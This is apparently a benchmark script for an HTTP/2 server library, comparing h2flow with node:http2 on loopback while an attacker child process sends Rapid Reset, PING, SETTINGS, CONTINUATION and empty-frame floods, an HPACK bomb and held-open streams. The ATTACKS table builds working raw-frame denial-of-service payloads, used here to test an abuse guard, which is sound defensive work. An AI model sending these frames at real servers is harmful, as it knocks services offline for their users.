// What an attack costs everyone else: a benign `h2load -c2 -m10` client (12-byte in-memory response)
// measured with no attack and while one attacker hammers the same server from another loopback address
// (127.0.0.2), reconnecting whenever it is closed: Rapid Reset, PING / SETTINGS / CONTINUATION / empty-DATA
// floods, an HPACK bomb, and 2,000 concurrent streams held open. h2flow's serve() (with its defaults, the
// abuse guard included; H2FLOW_BENCH_NO_GUARD=1 turns it off, to see each attack connection's own cost)
// against node:http2's compat server, each in its own child process; the attacker runs in a third. Each
// attack runs against a fresh server (see measureServer) for DURATION seconds (default 3) between two
// no-attack runs of the same length, so the whole bench takes about five minutes; see PIN for where each
// process runs. Prints per attack: benign req/s and p99 latency, the req/s share of the no-attack rate
// around it, and the server's memory over the phase (read from the server over an IPC channel: RSS and V8
// heap after a full GC just before the attacker starts and after the no-attack run that follows it, i.e.
// what the attack left retained, target ≤ 32 MiB per attack; and the peak RSS during the attack, garbage
// included), as JSON ratio lines. Each phase's human line also gives the server's CPU time over the phase. Figures under load
// (other processes) are noisy: compare within one run only.
// `node bench/attacks.bench.mjs --serve=NAME` / `--attack=NAME --port=P --seconds=S` run one side alone.
import { spawn, spawnSync } from 'node:child_process';
import { connect as netConnect } from 'node:net';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { join } from 'node:path';
import { report } from './_report.mjs';

const DURATION = Number(process.env.H2FLOW_BENCH_ATTACK_SECONDS ?? 3);
const HELLO = 'hello world\n';
// With two CPUs or more and taskset(1) (H2FLOW_BENCH_ATTACK_PIN=0 turns it off): the server gets CPU 0 to
// itself; h2load and the attacker share CPU 1, the attacker at nice 19 so that it takes only what h2load
// leaves. In production attackers and clients run on other machines: unpinned on 2 cores, the attacker
// process (a busy reconnect loop) starved h2load, and the server sat idle 40% of an attack phase waiting for
// benign requests (cpu profile), so the share measured the load generators, not the server.
const PIN = process.env.H2FLOW_BENCH_ATTACK_PIN !== '0' && availableParallelism() >= 2 && spawnSync('taskset', ['-c', '0', 'true']).status === 0;
/** `[command, args]` that run `cmd` for `role` ('server', 'client' or 'attacker') where PIN puts it. */
function pinned(role, cmd, args) {
  if (!PIN) return [cmd, args];
  if (role === 'server') return ['taskset', ['-c', '0', cmd, ...args]];
  return ['taskset', ['-c', '1', ...(role === 'attacker' ? ['nice', '-n', '19'] : []), cmd, ...args]];
}

// --- servers ---

async function serveH2flow() {
  const { serve } = await import('../dist/node.mjs');
  // H2FLOW_BENCH_NO_GUARD=1: without the abuse guard (to see what each attack connection costs).
  const abuse = process.env.H2FLOW_BENCH_NO_GUARD ? { abuse: false } : {};
  const server = serve(() => new Response(HELLO, { headers: { 'content-type': 'text/plain' } }), { port: 0, hostname: '127.0.0.1', onListen: () => undefined, ...abuse });
  return (await server.listening).port;
}

async function serveNode() {
  const http2 = await import('node:http2');
  const server = http2.createServer((req, res) => {
    res.on('error', () => undefined);
    res.setHeader('content-type', 'text/plain');
    res.end(HELLO);
  });
  server.on('sessionError', () => undefined);
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server.address().port;
}

const SERVERS = { h2flow: serveH2flow, 'node:http2': serveNode };

/** The highest RSS seen since the last sample (checked every 50 ms). */
let peakRss = 0;

/**
 * The server process's memory in MiB and CPU time in ms, as its parent asks for them over IPC between phases:
 * RSS and heap after a full GC (what the process retains, garbage left out), and the peak RSS since the last
 * sample (garbage included: what the phase made the process hold at most).
 */
function memoryMiB() {
  const peak = Math.max(peakRss, process.memoryUsage.rss());
  globalThis.gc?.();
  const m = process.memoryUsage();
  peakRss = m.rss;
  const cpu = process.cpuUsage();
  return { rss: m.rss / 2 ** 20, heap: m.heapUsed / 2 ** 20, peakRss: peak / 2 ** 20, cpuMs: (cpu.user + cpu.system) / 1000 };
}

// --- the attacker: raw frames ---

function frame(type, flags, streamId, payload = new Uint8Array(0)) {
  const b = new Uint8Array(9 + payload.length);
  b[0] = payload.length >>> 16;
  b[1] = (payload.length >>> 8) & 0xff;
  b[2] = payload.length & 0xff;
  b[3] = type;
  b[4] = flags;
  new DataView(b.buffer).setUint32(5, streamId);
  b.set(payload, 9);
  return b;
}
const concat = (...parts) => Buffer.concat(parts.map((p) => Buffer.from(p)));
const PREFACE = concat(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0));
// :method GET, :scheme http, :path /, :authority localhost (static-table references and one literal).
const REQUEST_BLOCK = concat([0x82, 0x86, 0x84, 0x01, 9], Buffer.from('localhost'));
const u32 = (n) => {
  const b = new Uint8Array(4);
  new DataView(b.buffer).setUint32(0, n);
  return b;
};

/** Each attack: bytes for one connection after the preface, as a function of a batch counter. */
const ATTACKS = {
  'rapid reset': (state) => {
    const parts = [];
    for (let i = 0; i < 100; i++) {
      const id = (state.next += 2);
      parts.push(frame(0x1, 0x5, id, REQUEST_BLOCK), frame(0x3, 0, id, u32(0x8)));
    }
    return concat(...parts);
  },
  'PING flood': () => concat(...Array.from({ length: 200 }, () => frame(0x6, 0, 0, new Uint8Array(8)))),
  'SETTINGS flood': () => concat(...Array.from({ length: 200 }, () => frame(0x4, 0, 0, concat([0, 4], u32(65535))))),
  'CONTINUATION flood': (state) => {
    if (!state.opened) {
      state.opened = true;
      return concat(frame(0x1, 0, 1, REQUEST_BLOCK), ...Array.from({ length: 100 }, () => frame(0x9, 0, 1, new Uint8Array(16))));
    }
    return concat(...Array.from({ length: 100 }, () => frame(0x9, 0, 1, new Uint8Array(16))));
  },
  'empty frames': (state) => {
    if (!state.opened) {
      state.opened = true;
      return concat(frame(0x1, 0x4, 1, REQUEST_BLOCK), ...Array.from({ length: 200 }, () => frame(0x0, 0, 1)));
    }
    return concat(...Array.from({ length: 200 }, () => frame(0x0, 0, 1)));
  },
  'HPACK bomb': (state) => {
    // One 4 KiB table entry, then 16,000 references to it: ~64 MiB decoded from a 16 KiB block.
    const literal = concat([0x40, 0x01, 0x78, 0x7f, 0xa1, 0x1f], Buffer.alloc(4000, 0x61));
    const id = (state.next += 2);
    return frame(0x1, 0x5, id, concat(REQUEST_BLOCK, literal, Buffer.alloc(12000, 0xbe)));
  },
  '2000 concurrent streams': (state) => {
    if ((state.count = (state.count ?? 0) + 100) > 2000) return null;
    return concat(...Array.from({ length: 100 }, () => frame(0x1, 0x4, (state.next += 2), REQUEST_BLOCK)));
  },
};

/** Attacks `port` for `seconds`, reconnecting whenever closed; prints how many connections it made. */
async function attack(name, port, seconds) {
  const make = ATTACKS[name];
  const deadline = Date.now() + seconds * 1000;
  let connections = 0;
  let refused = 0;
  while (Date.now() < deadline) {
    connections++;
    await new Promise((resolve) => {
      const socket = netConnect({ port, host: '127.0.0.1', localAddress: '127.0.0.2' });
      const state = { next: -1, opened: false };
      const timer = setTimeout(() => socket.destroy(), Math.max(0, deadline - Date.now()));
      // One batch per turn: the kernel takes loopback writes at once, so a loop would never let the
      // server's GOAWAY in.
      const pump = () => {
        if (socket.destroyed || Date.now() >= deadline) return;
        const bytes = make(state);
        if (bytes === null) return; // holds what it opened until closed
        if (socket.write(bytes)) setImmediate(pump);
        else socket.once('drain', pump);
      };
      socket.on('connect', () => {
        socket.write(PREFACE);
        pump();
      });
      // The server is done with us (GOAWAY, or its end): reconnect at once rather than wait for our
      // unsent bytes to drain into a socket nobody reads any more.
      let pending = Buffer.alloc(0);
      let answered = false;
      socket.on('data', (d) => {
        answered = true;
        pending = pending.length === 0 ? d : Buffer.concat([pending, d]);
        let at = 0;
        while (at + 9 <= pending.length) {
          const len = pending.readUIntBE(at, 3);
          if (pending[at + 3] === 0x7) return void socket.destroy();
          if (at + 9 + len > pending.length) break;
          at += 9 + len;
        }
        pending = pending.subarray(at);
      });
      socket.on('end', () => socket.destroy());
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearTimeout(timer);
        if (!answered) refused++;
        // A refused connection closes at once: do not spin faster than the server can refuse.
        setTimeout(resolve, 1);
      });
    });
  }
  console.log(JSON.stringify({ attack: name, connections, refused }));
}

// --- measuring ---

function run(cmd, args) {
  return new Promise((resolve) => {
    const child = spawn(...pinned('client', cmd, args), { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    child.on('close', () => resolve(out));
  });
}

/** The benign client for DURATION seconds: { reqPerSec, p99Ms }. */
async function benign(port) {
  const dir = mkdtempSync(join(tmpdir(), 'h2flow-attacks-'));
  const log = join(dir, 'log.tsv');
  try {
    const out = await run('h2load', ['-c', '2', '-m', '10', '-D', String(DURATION), `--log-file=${log}`, `http://127.0.0.1:${port}/`]);
    const m = /finished in [\d.]+m?s, ([\d.]+) req\/s/.exec(out);
    const times = readFileSync(log, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => line.split('\t'))
      .filter((c) => c[1] === '200')
      .map((c) => Number(c[2]) / 1000)
      .sort((a, b) => a - b);
    const p99 = times.length === 0 ? Infinity : times[Math.min(times.length - 1, Math.floor(times.length * 0.99))];
    return { reqPerSec: m === null ? 0 : Number(m[1]), p99Ms: p99 };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

function startChild(args, ready) {
  const role = args[0].startsWith('--serve=') ? 'server' : 'attacker';
  // The server can be asked for its memory after a full GC (see memoryMiB).
  const node = role === 'server' ? ['--expose-gc'] : [];
  const child = spawn(...pinned(role, process.execPath, [...node, new URL(import.meta.url).pathname, ...args]), { stdio: ['ignore', 'pipe', 'inherit', 'ipc'] });
  let text = '';
  const exited = new Promise((resolve) => child.once('exit', () => resolve(text)));
  return new Promise((resolve, reject) => {
    child.stdout.on('data', (d) => {
      text += d;
      const m = ready === null ? null : ready.exec(text);
      if (m) resolve({ match: m, exited, memory: () => askMemory(child), stop: () => (child.kill('SIGINT'), exited) });
    });
    if (ready === null) resolve({ match: null, exited, memory: () => askMemory(child), stop: () => (child.kill('SIGINT'), exited) });
    child.once('exit', (code) => ready !== null && reject(new Error(`${args.join(' ')} exited (${code}) early`)));
  });
}

/** The child's { rss, heap, cpuMs } (it answers any IPC message with its memory and CPU time). */
function askMemory(child) {
  return new Promise((resolve) => {
    child.once('message', resolve);
    child.send('memory');
  });
}

/**
 * One server per phase: the abuse guard's state (an address refused for 60 s after 10 abusive connections)
 * would otherwise carry from one attack into the next, and every later phase would measure only the cost
 * of refusing connections. Each phase: a fresh server, a warm-up (so that no phase runs on a cold JIT), a
 * no-attack run, the attack, and another no-attack run once the attacker is gone. A phase's share is its
 * attacked rate over the mean of the two no-attack runs around it: the rate of the same server on this
 * machine drifts by ±20% over a minute (other tenants), more than a single baseline for all phases allows.
 * The best no-attack run over all phases is printed too.
 */
async function measureServer(name) {
  const results = {};
  let baseline = null;
  for (const attackName of [null, ...Object.keys(ATTACKS)]) {
    const server = await startChild([`--serve=${name}`], /port (\d+)/);
    const port = Number(server.match[1]);
    try {
      await run('h2load', ['-n', '20000', '-c', '2', '-m', '10', `http://127.0.0.1:${port}/`]); // warm-up (JIT)
      const quiet = await benign(port);
      if (baseline === null || quiet.reqPerSec > baseline.reqPerSec) baseline = quiet;
      if (attackName === null) continue;
      const before = await server.memory();
      const attacker = await startChild([`--attack=${attackName}`, `--port=${port}`, `--seconds=${DURATION + 1}`], null);
      await new Promise((r) => setTimeout(r, 500));
      const r = await benign(port);
      const text = await attacker.exited;
      const atEnd = await server.memory();
      const quietAfter = await benign(port);
      // What the attack left retained: sampled after the no-attack run that follows it. Right when the
      // attacker exits the server is still reading what its last connections sent (3 s later it had freed
      // ~45 MiB of heap that a sample at exit counted, without the guard).
      const after = await server.memory();
      if (quietAfter.reqPerSec > baseline.reqPerSec) baseline = quietAfter;
      r.connections = Number(/"connections":(\d+)/.exec(text)?.[1] ?? 0);
      r.refused = Number(/"refused":(\d+)/.exec(text)?.[1] ?? 0);
      r.serverCpuMs = atEnd.cpuMs - before.cpuMs;
      r.rssGrowth = after.rss - before.rss;
      r.heapGrowth = after.heap - before.heap;
      r.peakRssGrowth = atEnd.peakRss - before.rss;
      r.around = { reqPerSec: (quiet.reqPerSec + quietAfter.reqPerSec) / 2, p99Ms: Math.max(quiet.p99Ms, quietAfter.p99Ms) };
      results[attackName] = r;
      console.log(
        `${name}, ${attackName}: ${Math.round(r.reqPerSec)} req/s, p99 ${r.p99Ms.toFixed(1)} ms (no attack on this server, before / after: ${Math.round(quiet.reqPerSec)} / ${Math.round(quietAfter.reqPerSec)}, share ${((100 * r.reqPerSec) / r.around.reqPerSec).toFixed(0)}%), ` +
          `attacker connections ${r.connections} (${r.refused} closed before any byte), ` +
          `server CPU ${Math.round(r.serverCpuMs)} ms, RSS after GC ${before.rss.toFixed(1)} → ${after.rss.toFixed(1)} MiB (peak ${atEnd.peakRss.toFixed(1)}), heap after GC ${before.heap.toFixed(1)} → ${after.heap.toFixed(1)} MiB`,
      );
    } finally {
      await server.stop();
    }
  }
  results['no attack'] = baseline;
  console.log(`${name}, no attack (best of ${2 * Object.keys(ATTACKS).length + 1}): ${Math.round(baseline.reqPerSec)} req/s, p99 ${baseline.p99Ms.toFixed(1)} ms`);
  return results;
}

const serveArg = process.argv.find((a) => a.startsWith('--serve='));
const attackArg = process.argv.find((a) => a.startsWith('--attack='));
if (serveArg !== undefined) {
  const name = serveArg.slice('--serve='.length);
  const port = await SERVERS[name]();
  process.on('SIGINT', () => process.exit(0));
  process.on('message', () => process.send(memoryMiB()));
  setInterval(() => (peakRss = Math.max(peakRss, process.memoryUsage.rss())), 50).unref();
  console.log(`${name} listening on port ${port}`);
} else if (attackArg !== undefined) {
  const arg = (k) => process.argv.find((a) => a.startsWith(`--${k}=`))?.slice(k.length + 3);
  await attack(attackArg.slice('--attack='.length), Number(arg('port')), Number(arg('seconds')));
  process.exit(0);
} else {
  console.log(`(each phase ${DURATION} s; ${PIN ? 'server on CPU 0, h2load and the attacker (nice 19) on CPU 1' : 'not pinned: the server, h2load and the attacker share every CPU'}; figures taken on a loaded machine are noisy)`);
  const ours = await measureServer('h2flow');
  const theirs = await measureServer('node:http2');
  for (const phase of ['no attack', ...Object.keys(ATTACKS)]) {
    report(`benign req/s, ${phase}`, 'req/s', ours[phase].reqPerSec, 'node:http2', theirs[phase].reqPerSec);
    report(`benign p99, ${phase}`, 'ms', ours[phase].p99Ms, 'node:http2', theirs[phase].p99Ms);
    if (phase !== 'no attack') {
      const share = (r) => (100 * r.reqPerSec) / r.around.reqPerSec;
      report(`benign share of the no-attack rate around it, ${phase}`, '%', share(ours[phase]), 'node:http2', share(theirs[phase]));
      const p99Ratio = (r) => r.p99Ms / r.around.p99Ms;
      report(`benign p99 over the no-attack p99 around it, ${phase}`, '×', p99Ratio(ours[phase]), 'node:http2', p99Ratio(theirs[phase]));
      report(`server RSS growth over the phase, after GC (retained), ${phase}`, 'MiB', ours[phase].rssGrowth, 'node:http2', theirs[phase].rssGrowth);
      report(`server heap growth over the phase, after GC (retained), ${phase}`, 'MiB', ours[phase].heapGrowth, 'node:http2', theirs[phase].heapGrowth);
      report(`server peak RSS over the phase, above its start, ${phase}`, 'MiB', ours[phase].peakRssGrowth, 'node:http2', theirs[phase].peakRssGrowth);
    }
  }
}
